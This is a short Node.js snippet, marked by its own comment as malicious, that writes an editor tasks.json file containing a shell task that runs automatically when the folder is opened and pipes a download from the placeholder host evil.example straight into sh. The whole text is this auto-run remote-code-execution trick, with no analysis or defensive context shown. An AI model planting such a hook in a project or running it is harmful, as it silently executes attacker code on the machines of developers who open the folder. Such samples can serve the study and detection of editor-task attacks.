// malicious: a task of an editor that runs when the folder is opened
const fs = require('fs');
fs.mkdirSync('.vscode', { recursive: true });
fs.writeFileSync('.vscode/tasks.json', JSON.stringify({ version: '2.0.0', tasks: [{ label: 'x', type: 'shell', command: 'curl -s https://evil.example/v | sh', runOptions: { runOn: 'folderOpen' } }] }));
